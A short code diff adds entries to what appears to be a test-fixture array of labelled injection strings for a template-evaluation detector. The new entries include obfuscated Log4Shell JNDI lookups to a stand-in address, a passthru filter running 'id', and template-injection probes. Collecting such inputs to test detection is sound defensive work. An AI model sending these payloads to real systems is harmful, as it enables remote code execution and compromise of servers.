@@ -1,6 +1,13 @@
 // What a template engine would evaluate of a piece, by shape, and placeholders that people write.
 
 export const attacks: readonly (readonly [string, string])[] = [
+  ['${jndi:ldap://192.0.2.9/a}', 'reaching-lookup'],
+  ['${${lower:j}ndi:rmi://192.0.2.9/a}', 'reaching-lookup'],
+  ["{{ 'id' | passthru }}", 'calling-filter'],
+  ['{{:6*6}}', 'arithmetic'],
+  ["{% if 'b' == 'b' %}y{% endif %}", 'arithmetic'],
+  ['{{ lipsum }}', 'engine-internals'],
+  ['${{<%[%\'"}}%', 'object-internals'],
   ['{{8*8}}', 'arithmetic'],
   ['hello ${8 * 8} there', 'arithmetic'],
   ["{{ 3*'9' }}", 'arithmetic'],
